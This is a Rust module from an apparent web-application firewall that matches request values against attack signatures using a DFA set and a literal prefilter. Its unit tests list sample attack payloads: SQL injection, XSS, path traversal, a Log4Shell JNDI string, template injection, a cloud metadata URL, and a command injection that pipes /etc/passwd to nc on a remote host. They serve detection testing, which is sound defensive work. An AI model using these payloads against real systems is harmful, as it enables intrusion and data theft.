//! Signature matching: one pass of a set DFA over a value says which signatures can match
//! (usually none), and only those run: a regex, to find where, or a native detector
//! (`crate::detect`) that parses the value. A native detector's pattern in the set is its gate,
//! the alternation of its literals. A regex signature also needs one of its literals (they may
//! narrow a general regex, e.g. to known event-handler names), which an Aho-Corasick pass finds
//! only when such a regex matched; when the set cannot answer, that pass picks the candidates.
//! Everything is compiled once per policy (the set on [`SignatureSet::prepare`] or first use).

mod literals;
pub mod packs;
mod set;

use std::sync::OnceLock;

use literals::LiteralScan;
use regex::bytes::{Regex, RegexBuilder};

use crate::detect::Detect;
use crate::targets::{Scope, TargetKind};
use set::{MatchSet, SetPattern};

/// Bounds on compiled regex size, so a hostile custom rule cannot exhaust the proxy's memory.
const REGEX_SIZE_LIMIT: usize = 4 << 20;

/// One compiled matcher, tied to a rule by `rule` (an index into the policy's rule table).
pub struct CompiledSignature {
    pub rule: usize,
    pub scope: Scope,
    /// Only values of targets with this (lower-case) name, e.g. one header or parameter.
    pub target_name: Option<Vec<u8>>,
    pub matcher: Matcher,
}

/// How a signature decides, once its literals were seen.
pub enum Matcher {
    Regex(Regex),
    Native(Detect),
}

/// A matcher before compilation.
#[derive(Clone, Copy)]
pub enum MatcherSource<'a> {
    Regex(&'a str),
    Native(Detect),
}

/// A signature waiting to be compiled.
pub struct SignatureSource<'a> {
    pub rule: usize,
    pub scope: Scope,
    pub target_name: Option<Vec<u8>>,
    pub literals: Vec<String>,
    pub matcher: MatcherSource<'a>,
    pub case_insensitive: bool,
}

#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct PatternError(pub String);

pub struct SignatureSet {
    signatures: Vec<CompiledSignature>,
    prefilter: Option<LiteralScan>,
    /// For each prefilter literal, the signatures it triggers.
    literal_signatures: Vec<Vec<u16>>,
    /// A bit per signature (as in the set's answer) for the literal-gated ones: regexes with
    /// literals, which apply only where one of them occurs.
    literal_gated: Vec<u64>,
    /// Signatures without literals: their regex always runs (custom regex rules, rules on
    /// the path or user agent).
    unfiltered: Vec<u16>,
    /// The target kinds any of `unfiltered` applies to.
    unfiltered_scope: Scope,
    /// Every signature's pattern in one DFA. Built on first use or by [`SignatureSet::prepare`],
    /// so tools that only validate a policy never pay for it; None if the patterns cannot
    /// form one.
    set: OnceLock<Option<MatchSet>>,
    /// The patterns (and case-insensitivity) the set is built from, one per signature, in
    /// signature order: a pattern's id is its signature's index.
    set_patterns: Vec<(String, bool)>,
}

/// A match: which signature, and the matched bytes' range in the value.
#[derive(Debug, Clone, Copy)]
pub struct SignatureMatch {
    pub rule: usize,
    pub start: usize,
    pub end: usize,
}

impl SignatureSet {
    pub fn compile(
        sources: Vec<SignatureSource<'_>>,
    ) -> Result<SignatureSet, (usize, PatternError)> {
        let mut literals: Vec<String> = Vec::new();
        let mut literal_signatures: Vec<Vec<u16>> = Vec::new();
        let mut unfiltered = Vec::new();
        let mut signatures = Vec::with_capacity(sources.len());
        let mut set_patterns: Vec<(String, bool)> = Vec::new();
        let mut unfiltered_scope = Scope(0);
        let mut literal_gated = vec![0u64; sources.len().div_ceil(64)];
        for (index, src) in sources.into_iter().enumerate() {
            let (matcher, set_pattern) = match src.matcher {
                MatcherSource::Regex(pattern) => {
                    let regex = RegexBuilder::new(pattern)
                        .case_insensitive(src.case_insensitive)
                        .unicode(false)
                        .size_limit(REGEX_SIZE_LIMIT)
                        .dfa_size_limit(REGEX_SIZE_LIMIT)
                        .build()
                        .map_err(|e| (src.rule, PatternError(e.to_string())))?;
                    (Matcher::Regex(regex), pattern.to_owned())
                }
                // The gate: any of the literals, anywhere (an empty list matches everywhere).
                MatcherSource::Native(detect) => {
                    let gate: Vec<String> = src.literals.iter().map(|l| regex::escape(l)).collect();
                    (Matcher::Native(detect), gate.join("|"))
                }
            };
            set_patterns.push((set_pattern, src.case_insensitive));
            let index = u16::try_from(index)
                .map_err(|_| (src.rule, PatternError("too many rules".into())))?;
            if src.literals.is_empty() {
                unfiltered.push(index);
                unfiltered_scope = Scope(unfiltered_scope.0 | src.scope.0);
            }
            if matches!(src.matcher, MatcherSource::Regex(_)) && !src.literals.is_empty() {
                literal_gated[usize::from(index) / 64] |= 1 << (index % 64);
            }
            for lit in src.literals {
                let lit = lit.to_ascii_lowercase();
                match literals.iter().position(|l| *l == lit) {
                    Some(p) => literal_signatures[p].push(index),
                    None => {
                        literals.push(lit);
                        literal_signatures.push(vec![index]);
                    }
                }
            }
            signatures.push(CompiledSignature {
                rule: src.rule,
                scope: src.scope,
                target_name: src.target_name,
                matcher,
            });
        }
        let prefilter = if literals.is_empty() {
            None
        } else {
            // A full DFA: one table lookup per byte on the request path; built once.
            Some(LiteralScan::build(&literals).map_err(|e| (0, PatternError(e)))?)
        };
        Ok(SignatureSet {
            literal_gated,
            signatures,
            prefilter,
            literal_signatures,
            unfiltered,
            unfiltered_scope,
            set: OnceLock::new(),
            set_patterns,
        })
    }

    pub fn len(&self) -> usize {
        self.signatures.len()
    }

    pub fn is_empty(&self) -> bool {
        self.signatures.is_empty()
    }

    /// Builds the one-pass set now rather than on the first request that needs it.
    pub fn prepare(&self) {
        self.set();
    }

    fn set(&self) -> Option<&MatchSet> {
        self.set
            .get_or_init(|| {
                let patterns: Vec<SetPattern<'_>> = self
                    .set_patterns
                    .iter()
                    .map(|(pattern, case_insensitive)| SetPattern {
                        pattern,
                        case_insensitive: *case_insensitive,
                    })
                    .collect();
                MatchSet::build(&patterns)
            })
            .as_ref()
    }

    /// Runs every applicable signature over one normalised value. `candidates` is scratch
    /// space reused across values to avoid allocating per value.
    pub fn scan(
        &self,
        kind: TargetKind,
        name: &[u8],
        value: &[u8],
        candidates: &mut Vec<u64>,
        mut on_match: impl FnMut(SignatureMatch),
    ) {
        // One set pass: on most values no pattern matches at all, and nothing else runs.
        if let Some(set) = self.set() {
            let answered = set.matching(value, |found| {
                let gated = found
                    .iter()
                    .zip(&self.literal_gated)
                    .any(|(f, g)| f & g != 0);
                if gated {
                    self.literal_candidates(kind, value, candidates);
                }
                for_each_bit(found, |i| {
                    let Some(sig) = self.signatures.get(i) else {
                        return;
                    };
                    // `candidates` is fresh: a gated signature was found.
                    let bit =
                        |words: &[u64]| words.get(i / 64).is_some_and(|w| w & (1 << (i % 64)) != 0);
                    if bit(&self.literal_gated) && !bit(candidates) {
                        return;
                    }
                    run(sig, kind, name, value, &mut on_match);
                });
            });
            if answered {
                return;
            }
        }
        self.run_candidates(kind, name, value, candidates, &mut on_match);
    }

    /// Without the set: the signatures whose literal occurs in `value` (or that have none)
    /// run, in signature order.
    fn run_candidates(
        &self,
        kind: TargetKind,
        name: &[u8],
        value: &[u8],
        candidates: &mut Vec<u64>,
        on_match: &mut dyn FnMut(SignatureMatch),
    ) {
        self.literal_candidates(kind, value, candidates);
        for_each_bit(candidates, |i| {
            run(&self.signatures[i], kind, name, value, on_match);
        });
    }

    /// Sets the bit of every signature with a literal in `value`, and of those without
    /// literals that apply to this kind of target.
    fn literal_candidates(&self, kind: TargetKind, value: &[u8], candidates: &mut Vec<u64>) {
        candidates.clear();
        candidates.resize(self.signatures.len().div_ceil(64), 0);
        if let Some(prefilter) = &self.prefilter {
            prefilter.for_each(value, |literal| {
                for &sig in &self.literal_signatures[literal] {
                    candidates[usize::from(sig) / 64] |= 1 << (sig % 64);
                }
            });
        }
        // Only where they apply: a path-only rule must not make every body value pay for the
        // candidate walk.
        if self.unfiltered_scope.contains(kind) {
            for &sig in &self.unfiltered {
                candidates[usize::from(sig) / 64] |= 1 << (sig % 64);
            }
        }
    }

    /// Heap bytes of the one-pass set (its DFA and the transition cache grown so far).
    pub fn set_memory_usage(&self) -> usize {
        self.set().map_or(0, MatchSet::memory_usage)
    }
}

/// Runs one signature that may match `value`, if it applies to this target.
fn run(
    sig: &CompiledSignature,
    kind: TargetKind,
    name: &[u8],
    value: &[u8],
    on_match: &mut dyn FnMut(SignatureMatch),
) {
    if !sig.scope.contains(kind) {
        return;
    }
    if let Some(want) = &sig.target_name {
        if !name.eq_ignore_ascii_case(want) {
            return;
        }
    }
    let found = match &sig.matcher {
        Matcher::Regex(regex) => regex.find(value).map(|m| (m.start(), m.end())),
        Matcher::Native(detect) => detect(value),
    };
    if let Some((start, end)) = found {
        on_match(SignatureMatch {
            rule: sig.rule,
            start,
            end,
        });
    }
}

/// Calls `f` with the index of every set bit, in increasing order.
fn for_each_bit(words: &[u64], mut f: impl FnMut(usize)) {
    for (w, &bits) in words.iter().enumerate() {
        let mut bits = bits;
        while bits != 0 {
            f(w * 64 + bits.trailing_zeros() as usize);
            bits &= bits - 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_builtin_pattern_compiles_and_has_literals() {
        // Rules on one value per request (the path, the user agent) may skip the prefilter
        // (none does: on the user agent the regex scan cost more than the literals' memory).
        let single = Scope::of(&[TargetKind::Path, TargetKind::UserAgent]);
        for def in packs::BUILTIN {
            assert!(
                !def.literals.is_empty() || def.scope.0 & !single.0 == 0,
                "{} has no prefilter literal",
                def.id
            );
            RegexBuilder::new(def.pattern)
                .case_insensitive(true)
                .unicode(false)
                .build()
                .unwrap_or_else(|e| panic!("{}: {e}", def.id));
        }
        let mut ids: Vec<_> = packs::BUILTIN.iter().map(|d| d.id).collect();
        ids.sort_unstable();
        let before = ids.len();
        ids.dedup();
        assert_eq!(before, ids.len(), "rule ids are unique");
    }

    /// Every built-in pack and native detector (each gate a signature of its own rule).
    fn builtin_set() -> SignatureSet {
        let packs = packs::BUILTIN.iter().map(|def| SignatureSource {
            rule: 0,
            scope: def.scope,
            target_name: None,
            literals: def.literals.iter().map(|l| (*l).to_owned()).collect(),
            matcher: MatcherSource::Regex(def.pattern),
            case_insensitive: true,
        });
        let detectors = crate::detect::BUILTIN.iter().flat_map(|def| {
            def.gates.iter().map(|gate| SignatureSource {
                rule: 0,
                scope: def.scope,
                target_name: None,
                literals: gate.literals.iter().map(|l| (*l).to_owned()).collect(),
                matcher: MatcherSource::Native(gate.detect),
                case_insensitive: true,
            })
        });
        let mut sources: Vec<SignatureSource<'_>> = packs.chain(detectors).collect();
        for (rule, source) in sources.iter_mut().enumerate() {
            source.rule = rule;
        }
        SignatureSet::compile(sources).unwrap()
    }

    #[test]
    fn one_pass_set_and_one_regex_at_a_time_agree() {
        let with_set = builtin_set();
        let mut without_set = builtin_set();
        with_set.prepare();
        assert!(with_set.set().is_some(), "the built-in patterns form a set");
        without_set.set = OnceLock::from(None);
        let prose = "Lorem ipsum dolor sit amet, or select the best plan; O'Brien & Co. <b>x</b> ";
        let payloads = [
            "1' OR '1'='1' -- ",
            "<img src=x onerror=alert(1)>",
            "../../etc/passwd",
            "${jndi:ldap://x/a}",
            "; cat /etc/passwd | nc 10.0.0.1 4444",
            "{{7*7}}",
            "http://169.254.169.254/latest/meta-data/",
            "UNION SELECT username, password FROM users",
        ];
        let mut values: Vec<String> = payloads.iter().map(|p| (*p).to_owned()).collect();
        for (i, p) in payloads.iter().enumerate() {
            values.push(format!("{}{p}{}", prose.repeat(i), prose.repeat(3)));
            values.push(format!("{p} and {}", payloads[(i + 3) % payloads.len()]));
        }
        values.push(prose.repeat(40));
        let kinds = [
            TargetKind::Path,
            TargetKind::QueryValue,
            TargetKind::Header,
            TargetKind::UserAgent,
            TargetKind::BodyValue,
            TargetKind::BodyRaw,
        ];
        let mut scratch = Vec::new();
        let mut set_hits = 0;
        for value in &values {
            for kind in kinds {
                let mut a = Vec::new();
                let mut b = Vec::new();
                with_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
                    a.push((m.rule, m.start, m.end))
                });
                without_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
                    b.push((m.rule, m.start, m.end))
                });
                assert_eq!(a, b, "{kind:?} {value:?}");
                set_hits += a.len();
            }
        }
        assert!(set_hits > 50, "the payloads match ({set_hits})");
    }

    #[test]
    fn prefilter_gates_the_regex() {
        let set = SignatureSet::compile(vec![SignatureSource {
            rule: 7,
            scope: Scope::VALUES,
            target_name: None,
            literals: vec!["evil".into()],
            matcher: MatcherSource::Regex(r"evil\d"),
            case_insensitive: true,
        }])
        .unwrap();
        let mut scratch = Vec::new();
        let mut hits = Vec::new();
        set.scan(
            TargetKind::QueryValue,
            b"q",
            b"an EVIL9 value",
            &mut scratch,
            |m| hits.push(m.rule),
        );
        set.scan(
            TargetKind::QueryValue,
            b"q",
            b"evil but no digit",
            &mut scratch,
            |m| hits.push(m.rule),
        );
        assert_eq!(hits, vec![7]);
    }
}
